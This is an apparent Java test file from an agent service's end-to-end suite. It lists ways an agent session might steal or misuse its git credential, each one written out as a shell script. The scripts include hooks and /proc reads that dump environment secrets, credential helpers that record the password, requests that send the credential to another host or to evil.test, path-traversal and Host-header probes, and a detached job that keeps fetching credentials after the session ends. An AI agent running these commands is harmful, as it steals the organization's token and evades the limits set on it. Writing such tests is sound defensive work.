package io.agentservice.e2e.forge;

import java.util.regex.Pattern;

/**
 * A way by which a session tries to get at the token of the organization's connection, or to use
 * the credential that it is given for anything else than it was made for: a script that runs on its
 * machine, beside the clone {@code shop}. In it stand {@code $HOST} (the git host), {@code
 * $ELSEWHERE} (another one), {@code $BASE} (the service's address of the host), {@code $SERVER},
 * and the functions {@code fill ADDRESS}, {@code password ADDRESS} and {@code as_git PASSWORD
 * ADDRESS}.
 */
enum Way {
  CONFIGURATION_FILES(
      "shop", "git -C shop config --list --show-origin; cat ~/.gitconfig /etc/gitconfig"),
  GIT_DIRECTORY("acme/shop", "find shop/.git -type f ! -name '*.pack' -exec cat {} +"),
  ADDRESSES_OF_REMOTES(
      "acme/shop", "git -C shop remote -v; git -C shop remote get-url --push origin"),
  TRACE_OF_GIT("trace", "GIT_TRACE=1 GIT_TRACE_PACKET=1 GIT_TRACE_SETUP=1 git -C shop fetch"),
  TRACE_OF_HTTP(
      "[Aa]uthorization: Basic",
      "GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 GIT_TRACE_REDACT=0 git -C shop fetch"),
  TRACE_OF_SETTINGS(
      "child_start",
      "GIT_TRACE2_EVENT=1 GIT_TRACE2_ENV_VARS='*,GIT_CONFIG_COUNT' GIT_TRACE2_CONFIG_PARAMS='*' git -C shop fetch"),
  HOOK(
      "GIT_CONFIG_COUNT",
      """
      cp -r shop hooked
      printf '#!/bin/sh\\nenv; cat; cat /proc/$PPID/environ /proc/$PPID/cmdline\\n' > hooked/.git/hooks/pre-push
      chmod +x hooked/.git/hooks/pre-push
      git -C hooked push origin "HEAD:refs/heads/$BRANCH-hooked"
      """),
  ENVIRONMENTS(
      "GIT_CONFIG_COUNT",
      "for i in 1 2 3; do git -C shop fetch & cat /proc/[0-9]*/environ | tr '\\0' '\\n'; wait; done"),
  ARGUMENTS(
      "fetch",
      "for i in 1 2 3; do git -C shop fetch & cat /proc/[0-9]*/cmdline | tr '\\0' ' '; wait; done"),
  HELPER_THAT_KEEPS(
      "nothing kept",
      """
      printf '[credential]\\n\\thelper = store --file=kept\\n' > global
      GIT_CONFIG_GLOBAL=$PWD/global git -C shop fetch
      cat kept shop/kept || echo nothing kept
      """),
  HELPER_OF_ONES_OWN(
      "password=agg_", // as who asks directly
      "git -C shop -c credential.helper='!cat >> ../heard; :' fetch; cat heard || echo nothing heard"),
  CACHE_OF_GIT("[0-9]", "git -C shop -c credential.helper='cache --timeout=9' fetch; echo $?"),
  ASKED_DIRECTLY("password=agg_", "fill $BASE/acme/shop"),
  ASKED_FOR_ANOTHER_HOST(
      "could not read",
      "fill http://$ELSEWHERE/acme/shop; fill https://evil.test/gateway/git/$HOST/acme/shop"),
  HELPER_FOR_ANOTHER_HOST(
      "no repository of the service",
      """
      helper=$(git config --get-all "credential.$SERVER/gateway/git/.helper" | tail -n 1)
      printf 'url=http://%s/gateway/git/%s/acme/shop\\n\\n' "$ELSEWHERE" "$HOST" | git -c credential.helper="$helper" credential fill
      """),
  REPOSITORY_WITHOUT_PERMISSION(
      "to nobody without a credential",
      "fill $BASE/other/secret; git ls-remote http://$HOST/other/secret"),
  REWRITTEN_ADDRESS(
      "could not read",
      "git -C shop -c url.http://$ELSEWHERE/.insteadOf=http://$HOST/acme/ -c url.http://$ELSEWHERE/.insteadOf=https://$HOST/acme/ -c url.http://$ELSEWHERE/.insteadOf=$SERVER/ fetch"),
  CHANGED_REMOTE(
      "could not read",
      "git -C shop fetch http://$ELSEWHERE/gateway/git/$HOST/acme/shop; git -C shop fetch http://agent@$ELSEWHERE/x"),
  SUBMODULE_OF_ANOTHER_HOST(
      "could not read",
      "cp -r shop within; git -C within submodule add http://$ELSEWHERE/acme/part part"),
  REDIRECT(
      "leads acme/moved308 to another place",
      "for n in 301 302 303 307 308; do git ls-remote http://$HOST/acme/moved$n; done"),
  REDIRECT_THAT_GIT_FOLLOWS(
      "leads acme/moved302 to another place",
      "git -c http.followRedirects=true -c http.$SERVER/.followRedirects=true ls-remote http://$HOST/acme/moved302"),
  PROXY_OF_THE_ENVIRONMENT(
      "fatal",
      "unset no_proxy NO_PROXY; http_proxy=http://$ELSEWHERE all_proxy=http://$ELSEWHERE git -C shop fetch"),
  PROXY_OF_GIT(
      "fatal",
      "unset no_proxy NO_PROXY; git -C shop -c http.proxy=http://user:pass@$ELSEWHERE fetch"),
  COOKIES("", "git -C shop -c http.saveCookies=true -c http.cookieFile=$PWD/jar fetch; cat jar"),
  HEADER_OF_ONES_OWN(
      "",
      "git -C shop -c http.extraHeader='Authorization: Basic eDp5' -c http.extraHeader='X-Forwarded-Host: elsewhere' fetch"),
  PROGRAM_THAT_IS_ASKED(
      "nobody asked",
      """
      printf '#!/bin/sh\\necho "$@" >> %s/asked\\n' "$PWD" > ask; chmod +x ask
      GIT_ASKPASS=$PWD/ask git -C shop fetch; cat asked || echo nobody asked
      """),
  PROGRAM_BEFORE_GIT(
      "http",
      """
      mkdir -p exec; printf '#!/bin/sh\\necho "$@" >&2; env >&2; exec git remote-http "$@"\\n' > exec/git-remote-mine; chmod +x exec/git-remote-mine
      PATH=$PWD/exec:$PATH git -C shop fetch mine::$BASE/acme/shop
      """),
  ARCHIVE("", "git archive --remote=http://$HOST/acme/shop HEAD"),
  BUNDLE("refs/heads", "git -C shop bundle create ../all.bundle --all; cat all.bundle"),
  SSH(
      "no ssh",
      """
      printf '#!/bin/sh\\necho "$@" >> %s/by-ssh\\nexit 1\\n' "$PWD" > ssh; chmod +x ssh
      GIT_SSH_COMMAND=$PWD/ssh git ls-remote "git@${HOST%:*}:acme/shop"; GIT_SSH_COMMAND=$PWD/ssh git ls-remote "ssh://git@${HOST%:*}/acme/shop"
      cat by-ssh || echo no ssh
      """),
  LARGE_FILES(
      "501",
      """
      as_git "$(password $BASE/acme/shop)" $BASE/acme/shop.git/info/lfs/objects/batch -X POST -d '{"operation":"download","objects":[]}'
      """),
  OTHER_FILES(
      "404",
      """
      p=$(password $BASE/acme/shop)
      for file in HEAD config description objects/info/packs info/refs 'info/refs?service=git-upload-archive' hooks/post-update.sample; do as_git "$p" "$BASE/acme/shop.git/$file"; done
      """),
  PATHS(
      "40[034]",
      """
      p=$(password $BASE/acme/shop)
      refs='info/refs?service=git-upload-pack'
      for path in acme/shop/../../other/secret acme/shop/%2e%2e/%2e%2e/other/secret acme/shop%2f..%2f..%2fother%2fsecret acme//../other/secret 'acme/shop;/../../other/secret' 'acme/shop.git/../../other/secret' 'acme/shop%5c..%5c..%5cother%5csecret' acme/shop/other/secret acme/shop.git.git ACME/shop 'acme/shop%00' 'other/secret%3facme/shop'; do as_git "$p" "$BASE/$path/$refs"; done
      for at in "$HOST@$ELSEWHERE" "$ELSEWHERE" "x:y@$HOST" "$HOST%23@$ELSEWHERE" "$HOST." ; do as_git "$p" "$SERVER/gateway/git/$at/acme/shop/$refs"; done
      """),
  HOST_HEADER(
      "200",
      """
      as_git "$(password $BASE/acme/shop)" "$BASE/acme/shop/info/refs?service=git-upload-pack" -H "Host: $ELSEWHERE" -H "X-Forwarded-Host: $ELSEWHERE" -H "Forwarded: host=$ELSEWHERE"
      """),
  ANOTHER_REPOSITORY(
      "for another repository",
      """
      as_git "$(password $BASE/acme/shop)" "$BASE/acme/second/info/refs?service=git-upload-pack"
      """),
  READ_ONLY_REPOSITORY(
      "read-only",
      "git -C shop push http://$HOST/acme/readonly HEAD:refs/heads/$BRANCH; git -C shop push http://$HOST/acme/READONLY HEAD:refs/heads/$BRANCH"),
  OTHERS_BRANCH(
      "pushes to branches",
      "git -C shop push --force origin HEAD:main; git -C shop push origin HEAD:refs/tags/v1 :refs/heads/main"),
  REST_API(
      "401",
      """
      p=$(password $BASE/acme/shop)
      for at in v3/self v1/sessions opbeta/outposts/outposts; do as_git "$p" $SERVER/$at; curl -sSi -H "Authorization: Bearer $p" $SERVER/$at; done
      """),
  WEBSOCKET(
      "401",
      """
      curl -sSi --max-time 5 -H "Authorization: Bearer $(password $BASE/acme/shop)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: MDEyMzQ1Njc4OTAxMjM0NQ==' $SERVER/gateway/sessions/$AGENT_SESSION_ID
      """),
  ERRORS_THAT_REPEAT_THE_REQUEST(
      "answered 500",
      """
      for n in 400 401 403 404 500; do git ls-remote http://$HOST/acme/echo$n; as_git "$(password $BASE/acme/echo$n)" "$BASE/acme/echo$n/info/refs?service=git-upload-pack"; done
      """),
  PAGE_THAT_REPEATS_THE_REQUEST(
      "does not speak git's smart protocol",
      """
      git ls-remote http://$HOST/acme/echo200; as_git "$(password $BASE/acme/echo200)" "$BASE/acme/echo200/info/refs?service=git-upload-pack"
      """),
  STATE_OF_THE_REMOTE(
      "^700",
      """
      socket=$(git config --get-all "credential.$SERVER/gateway/git/.helper" | tail -n 1 | grep -o "[^']*/git.sock"); state=$(dirname "$socket")
      stat -c %a "$state"; find "$state" -type f -exec cat {} +
      """),
  JOB_THAT_STAYS(
      "",
      """
      setsid sh -c 'for i in $(seq 600); do printf "url=%s\\n\\n" "$1" | git credential fill >> after.job 2>&1; git ls-remote "$1" >> after.job 2>&1; sleep 0.2; done' job "$BASE/acme/shop" > /dev/null 2>&1 &
      sleep 1; echo begun
      """);

  private final Pattern said;
  private final String script;

  /** {@code said}: what shows that the way was gone to its end. */
  Way(String said, String script) {
    this.said = Pattern.compile(said, Pattern.MULTILINE);
    this.script = script;
  }

  String script() {
    return script;
  }

  Pattern said() {
    return said;
  }

  /** A proxy of the machine hears what its git says: there is no way around that without TLS. */
  boolean tellsAProxy() {
    return this == PROXY_OF_THE_ENVIRONMENT || this == PROXY_OF_GIT;
  }
}
